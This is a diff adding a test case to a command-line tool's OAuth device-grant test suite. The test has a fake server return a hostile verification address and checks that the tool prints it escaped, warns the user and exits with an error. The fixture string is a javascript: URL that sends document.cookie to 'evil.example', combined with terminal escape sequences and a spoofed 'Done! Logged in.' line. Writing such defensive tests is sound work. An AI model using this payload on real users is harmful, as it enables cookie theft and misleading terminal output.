@@ -45,6 +45,23 @@ describe("device grant against a hostile server", () => {
     }
   }, 60_000);
 
+  it("a javascript: verification address with terminal escapes is printed inert, with a warning", async () => {
+    const { f, fake } = await setup();
+    const hostile = "javascript:fetch('//evil.example/'+document.cookie)\u001b]8;;x\u0007\nDone! Logged in.";
+    fake.deviceAnswer = { verification_uri: hostile, verification_uri_complete: hostile, expires_in: 1 };
+    const add = startCli(f, ["auth", "add", "codex-oauth"]);
+    expect(await add.exit()).toBe(1);
+    const out = add.out();
+    expect(out).toContain(
+      "open: javascript:fetch('//evil.example/'+document.cookie)\\u001b]8;;x\\u0007\\u000aDone! Logged in.\n",
+    );
+    expect(out).toContain(
+      "(the authorization server gave an address that is not https: check it before you open it)",
+    );
+    expect(out).not.toMatch(/[\u001b\u0007]/);
+    expect(out).not.toMatch(/^Done! Logged in\./m);
+  }, 60_000);
+
   it("an interval of 0 is refused as a broken answer, naming it, before any poll", async () => {
     const { f, fake } = await setup();
     fake.deviceAnswer = { interval: 0 };
